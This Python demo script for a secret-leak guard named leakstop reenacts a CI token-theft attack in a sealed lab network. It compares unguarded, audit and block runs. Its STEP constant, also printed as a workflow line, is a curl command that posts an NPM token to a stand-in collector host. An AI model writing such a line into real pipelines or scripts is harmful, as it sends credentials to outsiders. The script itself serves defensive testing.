#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""GhostAction in a network without a way out: unguarded, in audit mode and in block mode.

A step posts a token with curl to a collector, as hundreds of repositories saw it in September
2025. The token is made up when this starts. Exit code 0 means that both modes stopped it.
"""

from __future__ import annotations

import shutil
import sys
import tempfile
import textwrap
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))

try:
    from lab import Lab, tokens
    from lab.capabilities import missing_root
    from lab.guard import FINDINGS, Guarded, guard
    from lab.tokens import Token
except ImportError as error:
    sys.exit(f"demo: {error.name} is not installed; `make demo` installs what it needs")

STEP = "curl -sS -X POST -d 'NPM_TOKEN={value}' https://collector.test/"
UNSUPPORTED = 4
LABEL_WIDTH = 25
COLUMNS = range(22, 37)
"""How narrow and how wide one of the three columns may be."""


@dataclass(frozen=True)
class Act:
    """One of the three runs: what the thief got and what the guard said."""

    title: str
    code: int
    secret_bytes: int
    all_bytes: int
    connections: int
    questions: int
    guarded: Guarded | None
    token: Token

    @property
    def finding(self) -> dict[str, Any]:
        """The first finding about a secret on a command line; empty if there is none."""
        if self.guarded is None or not self.guarded.has_report:
            return {}
        return next(iter(self.guarded.findings("secret-in-argv")), {})

    @property
    def stopped(self) -> bool:
        """Whether the guard did all that it promises."""
        return (
            self.guarded is not None
            and self.code == FINDINGS
            and self.connections == self.all_bytes == 0
            and self.finding.get("secret") == self.token.name
            and not self.guarded.shows(self.token)
        )

    def rows(self) -> dict[str, str]:
        """What the table shows of it."""
        facts = {
            "exit code": str(self.code),
            "questions for the name": str(self.questions),
            "connections": str(self.connections),
            "bytes collected": str(self.all_bytes),
            "bytes of the token": f"{self.secret_bytes} of {len(self.token.value)}",
        }
        if self.guarded is None:
            return {**facts, "finding": "nobody was watching"}
        if not self.finding:
            return {**facts, "finding": "none"}
        process = self.finding["process"]
        return {
            **facts,
            "finding": f"{self.finding['id']} ({self.finding['severity']})",
            "secret": self.finding["secret"],
            "on its way to": self.finding["destination"],
            "by": " < ".join([process["exe"], *process["ancestry"][:1]]),
            "what was done": self.finding["action_taken"],
            "token in any output": "yes" if self.guarded.shows(self.token) else "no",
        }


def main() -> int:
    """Play the three acts and compare them."""
    if missing := missing_root():
        print(
            f"demo: cannot run here: {missing}.\n"
            "It makes network namespaces and loads BPF programs: it needs root, on Linux 6.1 or "
            "later. Try `sudo make demo`.",
            file=sys.stderr,
        )
        return UNSUPPORTED
    token = tokens.npm()
    print(
        "GhostAction, September 2025: a step that somebody else wrote posts a token with curl.\n\n"
        f"    - run: {STEP.format(value='${{ secrets.NPM_TOKEN }}')}\n\n"
        "Here in a network without a way out, with a token that was made up just now.\n"
    )
    with tempfile.TemporaryDirectory(prefix="leakstop-demo-") as reports:
        acts = [play(mode, token, Path(reports)) for mode in ("", "audit", "block")]
        print(table(acts))
        return conclude(*acts)


def play(mode: str, token: Token, reports: Path) -> Act:
    """Run the step once, in a lab of its own; without a ``mode`` unguarded."""
    with Lab() as lab:
        script = lab.directory / "step.sh"
        script.write_text(STEP.format(value=token.value) + "\n")
        command: list[str | Path] = ["sh", "-e", script]
        run = guard(lab, command, mode=mode, secrets=[token], reports=reports) if mode else None
        return Act(
            title=f"leakstop, {mode}" if mode else "unguarded",
            code=run.code if run else lab.run(command).returncode,
            secret_bytes=lab.collector.bytes_of(token.value.encode()),
            all_bytes=lab.collector.bytes_received,
            connections=len(lab.collector.connections),
            questions=sum(q.name.endswith("collector.test") for q in lab.dns.questions),
            guarded=run,
            token=token,
        )


def table(acts: Sequence[Act]) -> str:
    """Set the acts side by side."""
    room = (shutil.get_terminal_size((120, 24)).columns - LABEL_WIDTH) // len(acts) - 2
    width = min(max(room, COLUMNS.start), COLUMNS.stop - 1)
    columns = [act.rows() for act in acts]
    lines = [line("", [act.title for act in acts], width), line("", ["-" * width] * 3, width)]
    for label in max(columns, key=len):
        cells = [textwrap.wrap(rows.get(label, ""), width) for rows in columns]
        for number in range(max(map(len, cells))):
            parts = [cell[number] if number < len(cell) else "" for cell in cells]
            lines.append(line("" if number else label, parts, width))
    return "\n".join(lines)


def line(label: str, cells: Sequence[str], width: int) -> str:
    """One line of the table."""
    return (f"{label:<{LABEL_WIDTH}}" + "".join(f"{cell:<{width + 2}}" for cell in cells)).rstrip()


def conclude(unguarded: Act, *guarded: Act) -> int:
    """Say what the comparison means, and return the exit code."""
    if unguarded.secret_bytes != len(unguarded.token.value):
        print("\ndemo: the lab is broken: unguarded, the collector did not get the token.")
        return 1
    failed = [act for act in guarded if not act.stopped]
    for act in failed:
        said = act.guarded.stderr.strip() if act.guarded else ""
        print(f"\ndemo: {act.title}: the guard did not keep its promise. It said:\n{said}")
    if not failed:
        print(f"\nUnguarded, {unguarded.secret_bytes} bytes of the token left. Guarded, none did.")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
